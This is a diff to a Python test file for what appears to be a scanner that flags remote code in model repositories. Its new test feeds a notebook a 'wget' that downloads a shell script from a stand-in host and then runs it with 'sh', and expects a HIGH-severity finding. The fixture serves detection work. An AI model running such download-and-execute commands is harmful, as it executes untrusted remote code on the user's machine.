@@ -243,7 +243,7 @@ def test_deep_and_wide_modules_end_in_time() -> None:
 
 def test_a_class_of_this_repository_is_named_with_its_file() -> None:
     (found,) = configured({"auto_map": {"AutoModel": "modeling_x.XModel"}}, modeling_x__py=HONEST.encode())
-    assert found.severity == Severity.HIGH
+    assert found.severity == Severity.MEDIUM
     assert found.details == {"role": "AutoModel", "class": "XModel", "file": "modeling_x.py", "in_repository": True}
 
 
@@ -585,3 +585,8 @@ def test_a_flavour_with_code_of_its_own_is_remote_code() -> None:
 @pytest.mark.usefixtures("must_end")
 def test_a_script_of_nothing_but_fetches_ends() -> None:
     assert told("wget https://a.invalid/x " * 40_000, "install.sh") == []
+
+
+def test_a_notebook_that_fetches_and_then_runs_is_told() -> None:
+    (told_once,) = in_notebook(notebook("!wget https://a.invalid/x.sh -O /tmp/x.sh\n!sh /tmp/x.sh"))
+    assert told_once.severity == Severity.HIGH
